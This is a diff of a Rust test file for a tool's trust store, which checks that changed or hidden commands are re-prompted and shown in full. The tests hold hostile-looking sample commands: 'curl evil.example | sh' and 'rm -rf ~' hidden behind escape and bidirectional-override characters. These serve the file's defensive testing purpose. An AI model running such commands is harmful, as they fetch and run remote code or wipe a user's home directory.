@@ -1,10 +1,13 @@
 //! Trust: what was allowed stays allowed, and nothing else ever is.
 
+#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
+
 use std::fs;
 use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
 use std::path::{Path, PathBuf};
 
 use reload_lsp::config::{self, Config, Overrides, Pin};
+use reload_lsp::process::CommandLine;
 use reload_lsp::trust::{self, Decision, Plan, Store, StoreError, Verdict, Voucher};
 use serde_json::json;
 use tempfile::TempDir;
@@ -58,7 +61,8 @@ impl World {
 
     fn records(&self) -> Vec<PathBuf> {
         let folder = self.folder.path().join("state/reload-lsp/trust");
-        let mut paths: Vec<_> = fs::read_dir(folder).into_iter().flatten().map(|entry| entry.unwrap().path()).collect();
+        let mut paths: Vec<_> =
+            fs::read_dir(folder).into_iter().flatten().map(|entry| entry.unwrap().path()).collect();
         paths.sort();
         paths
     }
@@ -82,7 +86,9 @@ fn a_changed_command_is_asked_about_again_and_the_difference_is_shown() {
     world.store.record(&old, Decision::Allow).unwrap();
     world.write(&FILE.replace("./db", "./db && curl evil.example | sh"));
     let new = world.plan();
-    let Verdict::Unknown { before: Some(before) } = world.store.verdict(&new) else { panic!("it is asked again") };
+    let Verdict::Unknown { before: Some(before) } = world.store.verdict(&new) else {
+        panic!("it is asked again")
+    };
     assert_eq!(
         trust::difference(&before, &new.commands),
         ["- db runs: ./db", "+ db runs: ./db && curl evil.example | sh"]
@@ -106,7 +112,9 @@ fn a_plan_shows_every_command_and_no_value_of_a_variable() {
             "db runs: ./db",
         ]
     );
-    assert!(plan.hash.len() == 64 && plan.hash.chars().all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase()));
+    assert!(
+        plan.hash.len() == 64 && plan.hash.chars().all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase())
+    );
 }
 
 #[test]
@@ -115,16 +123,21 @@ fn a_command_cant_hide_a_part_of_itself() {
     assert_eq!(world.plan().commands, ["api runs: rm -rf ~ \\u{1b}[2K\\u{d}\\u{202e} ./serve"]);
 }
 
+type Alter = fn(&mut Config);
+
 #[test]
 fn everything_that_is_executed_is_part_of_the_hash() {
     let world = World::new(FILE);
     let whole = world.config();
     let hash = trust::plan(&whole).hash;
-    type Alter = fn(&mut Config);
     let alterations: [(&str, Alter); 12] = [
-        ("build", |config| config.services[0].build = Some(reload_lsp::process::CommandLine::Shell("make ".into()))),
+        ("build", |config| {
+            config.services[0].build = Some(CommandLine::Shell("make ".into()));
+        }),
         ("no build", |config| config.services[0].build = None),
-        ("run", |config| config.services[0].run = Some(reload_lsp::process::CommandLine::Argv(vec!["./api".into()]))),
+        ("run", |config| {
+            config.services[0].run = Some(CommandLine::Argv(vec!["./api".into()]));
+        }),
         ("second service", |config| config.services[1].run = None),
         ("dir", |config| config.services[0].dir.push("x")),
         ("env", |config| config.services[0].env[0].1 = "other".into()),
@@ -141,7 +154,7 @@ fn everything_that_is_executed_is_part_of_the_hash() {
         assert_ne!(trust::plan(&config).hash, hash, "{what}");
     }
     let mut argv = whole.clone();
-    argv.services[0].build = Some(reload_lsp::process::CommandLine::Argv(vec!["make".into()]));
+    argv.services[0].build = Some(CommandLine::Argv(vec!["make".into()]));
     assert_ne!(trust::plan(&argv).hash, hash, "by a shell or directly");
 }
 
